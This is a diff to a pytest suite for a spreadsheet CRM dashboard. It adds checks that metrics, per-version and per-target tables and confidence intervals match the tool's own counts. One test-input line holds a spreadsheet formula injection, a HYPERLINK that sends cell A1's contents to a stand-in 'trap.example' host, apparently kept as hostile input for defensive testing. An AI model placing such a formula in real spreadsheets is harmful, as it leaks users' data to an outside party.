@@ -6,6 +6,7 @@ document. What is counted here is not counted with the product's code.
 """
 
 import datetime as dt
+import itertools
 import math
 from collections import Counter
 from statistics import median
@@ -19,6 +20,8 @@ from sheets_crm import sample
 pytestmark = pytest.mark.long
 
 PEOPLE = 240
+LIST = 38
+"""The first line of the full list on the Dashboard, from 0."""
 LOCALES = ("es_ES", "en_US")
 NASTY = {
     "summary": '=HYPERLINK("https://trap.example/?x="&A1;"Ver perfil")',
@@ -157,6 +160,12 @@ def counted(bench):
         "instantly_positive_ratio": ratio(positive, sent),
         "instantly_conversion_ratio": ratio(converted, positive),
         "estimate_total": total,
+        "verification_completed": number(verification_status="completed"),
+        "box1_completed": box1_done,
+        "box1_hit": hit,
+        "instantly_replied": replied,
+        "instantly_positive": positive,
+        "instantly_converted": converted,
     }
     chain = (
         ("verified", "verification_ratio"),
@@ -218,7 +227,7 @@ def agree(one, other):
 
 def test_every_metric_agrees_in_four_places(job):
     status = job.cli("status")
-    shown = {line[6]: line[1] for line in job.raw("Dashboard")[1:] if len(line) > 6 and line[6]}
+    shown = {line[10]: line[5] for line in job.raw("Dashboard")[LIST:] if len(line) > 10 and line[10]}
     own = counted(job)
     assert set(status["metrics"]) == set(own) | {"last_run_at"}
     for name, value in own.items():
@@ -447,18 +456,100 @@ def test_the_lead_profile_tells_one_leads_story(job, ask):
 
 
 FIGURES = {}
-BLOCKS = {}
 
 
-def test_the_block_by_version_and_target_is_the_same_in_both_locales(job):
-    block = [row[8:19] for row in job.raw("Dashboard")[34:]]
-    for other in BLOCKS.values():
-        assert block == other
-    BLOCKS[job.locale] = block
-    rows = {row[0]: row for row in block if row and row[0]}
-    assert rows["T-1"][1] == PEOPLE
-    assert rows["v1"][4] == sum(lead["instantly_sent"] is True for lead in job.master().values())
-    assert not any(str(cell).startswith("#") for row in block for cell in row)
+def by_name(job, first):
+    """The rows of a table of Versions, by name."""
+    raw = job.raw("Versiones")
+    start = next(n for n, row in enumerate(raw) if row and str(row[0]).startswith(first))
+    heads = next(n for n in range(start, start + 4) if raw[n][0] in {"versión", "TargetID"})
+    body = itertools.takewhile(lambda row: row and row[0] != "", raw[heads + 1 :])
+    return {row[0]: [*row, *[""] * (21 - len(row))][:21] for row in body}
+
+
+def wilson(above, below):
+    """Both ends of the 95 % range of a share; blank without cases."""
+    if not below:
+        return ["", "", ""]
+    z2, share = 1.96**2, above / below
+    root = 1.96 * math.sqrt(above * (below - above) / below + z2 / 4)
+    return [share, *((above + z2 / 2 + sign * root) / (below + z2) for sign in (-1, 1))]
+
+
+def replies(leads):
+    """Sent to Instantly, replied, positive, converted."""
+    words = [lead["instantly_status"] for lead in leads if lead["instantly_sent"] is True]
+    positive = sum(word in {"positive reply", "converted"} for word in words)
+    return len(words), positive + words.count("negative reply"), positive, words.count("converted")
+
+
+def version_row(leads):
+    """What Versions has to say of the leads of one version, none of which was reopened."""
+    found = [lead["box1_result"] for lead in leads if lead["box1_status"] == "completed"]
+    hit, sent = found.count("HIT"), replies(leads)
+    return [
+        *(len(found), hit, found.count("noHIT"), found.count("DROP"), *wilson(hit, len(found))),
+        *(sent[0], sent[1], *wilson(sent[1], sent[0])),
+        *(sent[2], *wilson(sent[2], sent[0]), sent[3], *wilson(sent[3], sent[2])),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("title", "column"),
+    [
+        ("Por versión de Box 1", "box1_version"),
+        *((f"Por versión del prompt {n}", f"prompt{n}_version") for n in range(1, 5)),
+    ],
+)
+def test_every_version_of_box_1_and_of_each_prompt_is_counted_apart(job, title, column):
+    leads = list(job.master().values())
+    rows = by_name(job, title)
+    assert set(rows) == {lead[column] for lead in leads} - {""}
+    for name, row in rows.items():
+        own = version_row([lead for lead in leads if lead[column] == name])
+        assert all(map(agree_nearly, row[1:], own)), (name, row, own)
+
+
+def agree_nearly(one, other):
+    return one == other or (
+        not isinstance(one, str)
+        and not isinstance(other, str)
+        and math.isclose(one, other, rel_tol=1e-9, abs_tol=1e-9)
+    )
+
+
+def test_every_target_is_counted_apart(job):
+    leads, rows = list(job.master().values()), by_name(job, "Por TargetID")
+    assert set(rows) == {"T-1"}
+    verified, checked = (
+        sum(lead[name] == value for lead in leads)
+        for name, value in (("validation_success", True), ("verification_status", "completed"))
+    )
+    done = [lead["box1_result"] for lead in leads if lead["box1_status"] == "completed"]
+    sent, replied, positive, converted = replies(leads)
+    own = [
+        *(PEOPLE, verified, *wilson(verified, checked)),
+        *(sum(lead["company_scrap_status"] == "completed" for lead in leads), done.count("HIT")),
+        *(*wilson(done.count("HIT"), len(done)), sent, *wilson(replied, sent), *wilson(positive, sent)),
+        *wilson(converted, positive),
+    ]
+    assert all(map(agree_nearly, rows["T-1"][1:], own)), (rows, own)
+
+
+def test_the_first_screen_shows_the_figures_of_the_list(job):
+    """Cards, funnel and feed, by the owner's count; History has no day before, so that no change is shown."""
+    own, raw = counted(job), job.raw("Dashboard")
+    cards = ["leads_total", "verification_verified", "company_scrap_completed", "box1_hit"]
+    cards += ["instantly_sent", "instantly_positive", "instantly_converted"]
+    assert raw[10][:13:2] == [own[name] for name in cards]
+    funnel = [*cards[:5], "instantly_replied", *cards[5:]]
+    assert [row[2] for row in raw[15:23]] == [own[name] for name in funnel]
+    for row, (before, now) in zip(raw[16:23], itertools.pairwise(funnel), strict=True):
+        assert agree_nearly(row[3], own[now] / own[before])
+    assert agree_nearly(raw[15][11], own["feed_days"])
+    assert agree_nearly(raw[16][11], own["feed_days_with_pipeline"] - own["feed_days"])
+    assert all(cell == "" for cell in raw[12])
+    assert not any(str(cell).startswith("#") and not str(cell).startswith("#gid") for row in raw for cell in row)
 
 
 def test_the_figures_are_the_same_in_both_locales(job):
